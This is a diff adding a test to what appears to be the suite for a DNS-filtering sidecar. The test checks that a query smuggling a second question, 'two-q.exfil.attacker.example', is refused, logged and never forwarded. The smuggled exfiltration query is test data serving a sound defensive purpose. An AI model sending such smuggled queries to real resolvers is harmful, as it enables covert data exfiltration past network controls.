@@ -75,3 +75,15 @@ def test_rebinding_answer_is_not_handed_to_the_gateway(dns_sidecar):
     assert dns_sidecar.wait_for_decision(host="meta.openai.com", mode="dns")["reason"] == (
         "metadata_address"
     )
+
+
+def test_message_with_two_questions_is_refused_and_logged(dns_sidecar, dns_server):
+    """A query smuggling a second question (an unlisted name) is refused whole."""
+    query = dns.message.make_query("api.openai.com", "A")
+    query.question.append(dns.message.make_query("two-q.exfil.attacker.example", "A").question[0])
+    host, port = dns_sidecar.listener("dns").rsplit(":", 1)
+    reply = dns.query.udp(query, host, port=int(port), timeout=5)
+    assert reply.rcode() == dns.rcode.FORMERR
+    assert not dns_server.asked("two-q.exfil.attacker.example")
+    decision = dns_sidecar.wait_for_decision(mode="dns", reason="protocol_not_allowed")
+    assert decision["detail"] == "DNS message with 2 questions"
